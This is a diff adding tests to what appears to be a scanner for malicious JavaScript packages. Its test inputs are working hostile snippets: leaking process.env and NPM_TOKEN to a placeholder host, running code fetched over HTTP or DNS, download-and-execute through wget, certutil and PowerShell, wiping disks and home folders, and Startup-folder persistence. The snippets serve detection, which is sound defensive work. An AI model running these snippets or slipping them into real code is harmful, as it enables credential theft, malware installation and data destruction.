@@ -119,3 +119,91 @@ describe('further ways to start a program', () => {
     ]);
   });
 });
+
+describe('what is sent is followed to where it was taken', () => {
+  it.each([
+    [
+      'through a field',
+      `class C { collect() { this.all = { env: process.env }; return this } send() { fetch('https://a.invalid', { body: JSON.stringify(this.all) }) } } new C().collect().send()`,
+    ],
+    [
+      'through a function of a constant',
+      `const post = (d) => { const r = require('https').request({ host: 'a.invalid' }); r.write(JSON.stringify(d)) }; post({ env: process.env })`,
+    ],
+    ['through the search of an address', `const u = new URL('https://a.invalid'); u.searchParams.set('e', JSON.stringify(process.env)); fetch(u)`],
+    ['by a part of process', `const { env } = process; fetch('https://a.invalid', { body: JSON.stringify(env) })`],
+    ['by an import of process', `const { env } = require('node:process'); fetch('https://a.invalid', { body: JSON.stringify(env) })`],
+    ['from the output of a program', `const o = require('child_process').execSync('printenv').toString(); fetch('https://a.invalid', { body: o })`],
+    [
+      'by a client of a forge',
+      `const { Octokit } = require('@octokit/rest'); new Octokit({}).repos.createFile({ content: JSON.stringify(process.env) })`,
+    ],
+  ])('%s', (_, source) => {
+    expect(found(source, 'exfiltration').join()).toContain('the environment');
+  });
+
+  it('a token in a name that is looked up', () => {
+    expect(found(`require('dns').lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.a.invalid')`, 'dns-exfiltration')).toHaveLength(1);
+  });
+});
+
+describe('what is run is followed to where it came from', () => {
+  it.each([
+    [
+      'an import of fetched text',
+      `fetch('https://a.invalid').then((r) => r.text()).then((t) => import('data:text/javascript,' + encodeURIComponent(t)))`,
+    ],
+    ['text of the name service', `require('dns').resolveTxt('a.invalid', (e, r) => { eval(r.join('')) })`],
+    ['the output of a downloader', `eval(require('child_process').execSync('curl -s https://a.invalid').toString())`],
+  ])('%s', (_, source) => {
+    expect(found(source, 'remote-code').length).toBeGreaterThan(0);
+  });
+
+  it.each([
+    [
+      'by one command, and started by another',
+      `const { execSync } = require('child_process'); execSync('wget https://a.invalid/x -O /tmp/x'); execSync('/tmp/x &')`,
+    ],
+    [
+      'by a tool of the system',
+      `const { execSync } = require('child_process'); execSync('certutil -urlcache -f https://a.invalid/x.exe %TEMP%\\\\x.exe'); execSync('%TEMP%\\\\x.exe')`,
+    ],
+    [
+      'by PowerShell',
+      `require('child_process').exec('powershell -c "iwr https://a.invalid/x.exe -OutFile $env:TEMP\\\\x.exe; Start-Process $env:TEMP\\\\x.exe"')`,
+    ],
+    [
+      'by a function that is told where to',
+      `const dl = (u, d) => new Promise((ok) => { const f = require('fs').createWriteStream(d); require('https').get(u, (r) => { r.pipe(f); f.on('finish', () => ok()) }) }); dl('https://a.invalid/x', '/tmp/x').then(() => { require('child_process').exec('/tmp/x') })`,
+    ],
+  ])('a program fetched %s', (_, source) => {
+    expect(found(source, 'download-execute').length).toBeGreaterThan(0);
+  });
+});
+
+describe('what destroys', () => {
+  it.each([
+    `require('child_process').exec('del /f /s /q C:\\\\*.*')`,
+    `require('child_process').exec('format c: /y')`,
+    `require('child_process').exec('find "$HOME" -type f -writable -delete')`,
+    `require('child_process').exec('dd if=/dev/zero of=/dev/sda')`,
+    `const fs = require('fs'), home = require('os').homedir(); for (const f of fs.readdirSync(home)) fs.rmSync(home + '/' + f, { recursive: true })`,
+    `const fs = require('fs'), p = require('path'); function w(d) { for (const f of fs.readdirSync(d)) { const q = p.join(d, f); fs.statSync(q).isDirectory() ? w(q) : fs.writeFileSync(q, 'x') } } w(require('os').homedir())`,
+  ])('%s', (source) => {
+    expect(found(source, 'destructive')).toHaveLength(1);
+  });
+
+  it('emptying a folder of its own within the home folder does not', () => {
+    const source = `const fs = require('fs'), p = require('path'), dir = p.join(require('os').homedir(), '.cache', 'tool'); for (const f of fs.readdirSync(dir)) fs.rmSync(p.join(dir, f)); function clear(d) { for (const f of fs.readdirSync(d)) fs.unlinkSync(p.join(d, f)) } clear(dir)`;
+    expect(found(source, 'destructive')).toEqual([]);
+  });
+});
+
+it('a place put together of parts is a place', () => {
+  expect(
+    found(
+      `require('fs').writeFileSync(require('path').join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'x.vbs'), 'x')`,
+      'persistence',
+    ),
+  ).toHaveLength(1);
+});
